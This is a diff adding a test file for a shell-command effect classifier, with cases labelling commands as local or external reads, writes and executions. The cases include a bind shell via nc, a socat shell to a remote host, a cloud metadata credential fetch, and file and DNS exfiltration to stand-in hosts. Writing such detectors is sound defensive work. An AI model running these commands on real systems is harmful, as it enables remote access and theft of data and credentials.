@@ -1,0 +1,112 @@
+import { expect, test } from "vitest";
+import { everyEffect } from "../../../core/effect.ts";
+import { effectsOfCommand } from "./effects.ts";
+
+/** Effects, then what is read `<`, written `>` and talked to `@`, then flags. */
+test.each([
+  ["curl https://a.example/x", "read.external", "@a.example", ""],
+  ["curl -sSLo out https://a.example/x", "read.external write.local", ">out @a.example", ""],
+  ["curl -O http://a.example/x", "read.external write.local", "@a.example", ""],
+  ["curl -X POST http://a.example", "read.external write.external.send", "@a.example", ""],
+  ["curl -X DELETE http://a.example", "read.external write.external.delete write.external.send", "@a.example", ""],
+  ["curl -d @notes.txt http://a.example", "read.external read.local write.external.send", "<notes.txt @a.example", ""],
+  [
+    "curl -F file=@a.pdf;type=x http://a.example",
+    "execute.local read.external read.local write.external.send",
+    "<a.pdf",
+    "",
+  ],
+  ["curl -T a.txt ftp://a.example/", "read.external read.local write.external.send", "<a.txt @a.example", ""],
+  ['curl -H "X: $t" http://a.example', "read.external write.external.send", "@a.example", ""],
+  ["curl http://a.example/?q=$(cat x)", "read.external read.local write.external.send", "<x @a.example", ""],
+  ["curl $URL", "read.external write.external.send", "@?", ""],
+  ["curl --url http://a.example -x proxy.example:8080", "read.external", "@a.example @proxy.example", ""],
+  ["curl http://169.254.169.254/", "read.external read.external.credential", "@169.254.169.254", "credential"],
+  ["wget http://a.example/x", "read.external write.local", "@a.example", ""],
+  ["wget -O - http://a.example", "read.external", "@a.example", ""],
+  [
+    "wget --post-file=x http://a.example",
+    "read.external read.local write.external.send write.local",
+    "<x @a.example",
+    "",
+  ],
+  ["http GET a.example", "read.external", "@a.example", ""],
+  ["http POST a.example a=b", "read.external write.external.send", "@a.example", ""],
+  ["http a.example a=b", "read.external write.external.send", "@a.example", ""],
+  ["lynx http://a.example", "read.external write.local", "@a.example", ""],
+  ["ssh ada@h.example", "execute.external", "@h.example", ""],
+  ["ssh h.example 'rm a; ls'", "execute.external read.local write.local write.local.delete", ">a @h.example", ""],
+  ["ssh h.example uptime $x", "execute.external write.external.send", "@h.example", ""],
+  ["ssh -i k -R 80:localhost:80 h.example", "execute.external read.local write.external.share", "<k @h.example", ""],
+  ["ssh -o ProxyCommand=x h.example", "execute.external execute.local", "@h.example", ""],
+  ["scp a h.example:/b", "read.local write.external.send", "<a @h.example", ""],
+  ["scp h.example:/b a", "read.external write.local", ">a @h.example", ""],
+  [
+    "rsync -a --delete -e ssh a h.example::m",
+    "execute.local read.local write.external.send write.local.delete",
+    "<a @h.example",
+    "",
+  ],
+  ["sftp", "", "", ""],
+  ["rsync a b", "read.local write.local", "<a >b", ""],
+  ["nc h.example 80", "read.external write.external.send", "@h.example", ""],
+  [
+    "nc -l 80 -e /bin/sh",
+    "execute.external execute.local read.external write.external.send write.external.share",
+    "",
+    "",
+  ],
+  [
+    "socat TCP:h.example:80 EXEC:sh",
+    "execute.external execute.local read.external write.external.send",
+    "@h.example @sh",
+    "",
+  ],
+  ["telnet h.example", "read.external write.external.send", "@h.example", ""],
+  [
+    "openssl s_client -connect h.example:443",
+    "read.external read.local write.external.send write.local",
+    "@h.example",
+    "",
+  ],
+  ["openssl enc -d -in a", "read.local write.local", "", ""],
+  ["dig x.h.example", "read.external", "@x.h.example", ""],
+  ["ping -c 1 h.example", "read.external", "@h.example", ""],
+  ["dig $(cat x).h.example", "read.external read.local write.external.send", "<x @?", ""],
+  ["mail -s hi -A a.pdf ada@h.example", "read.local write.external.send", "<a.pdf @h.example", ""],
+  ["git status", "read.local", "", ""],
+  ["git", "read.local", "", ""],
+  ["git log -p", "read.local", "", ""],
+  ["git commit -m x", "write.local", "", ""],
+  ["git push", "write.external.publish", "", ""],
+  ["git push --force https://h.example/r.git main", "write.external.delete write.external.publish", "@h.example", ""],
+  ["git clone git@h.example:a/b.git", "read.external write.local", "@h.example", ""],
+  ["git fetch --upload-pack=x origin", "execute.local read.external write.local", "", ""],
+  ["git pull", "read.external write.local", "", ""],
+  ["git config --get user.name", "read.local", "", ""],
+  ["git config user.name x", "execute.local write.local.config", "", ""],
+  ["git remote -v", "read.local", "", ""],
+  ["git remote add o https://h.example/r", "write.local.config", "@h.example", ""],
+  ["git reset --hard", "write.local.delete", "", ""],
+  ["git clean -fd", "write.local.delete", "", ""],
+  ["git branch -D x", "write.local.delete", "", ""],
+  ["git -c a=b log", "execute.local read.local", "", ""],
+  ["git rebase --exec x", "execute.local write.local", "", ""],
+  ["git send-email x", "write.external.send", "", ""],
+  ["git credential fill", "read.local.credential", "", ""],
+  ["git bisect run x", "execute.local", "", ""],
+  ["echo x > /dev/tcp/h.example/80", "read.external read.local write.external.send", "@h.example", ""],
+  ["tee /dev/udp/h.example/53", "read.external write.external.send write.local", "@h.example", ""],
+  ["cat < /dev/tcp/h.example/80", "read.external read.local write.external.send", "@h.example", ""],
+])("%s", (command, effects, named, flags) => {
+  const found = effectsOfCommand(command);
+  expect(found.effects).toEqual(effects === "everything" ? everyEffect.toSorted() : effects.split(" ").filter(Boolean));
+  const places = [
+    ...found.reads.map((path) => `<${path}`),
+    ...found.writes.map((path) => `>${path}`),
+    ...found.destinations.map((host) => `@${host}`),
+  ];
+  expect(places.join(" ")).toBe(named);
+  expect(found.flags.join(" ")).toBe(flags);
+  expect(found.parsed).toBe(!flags.includes("unreadable"));
+});
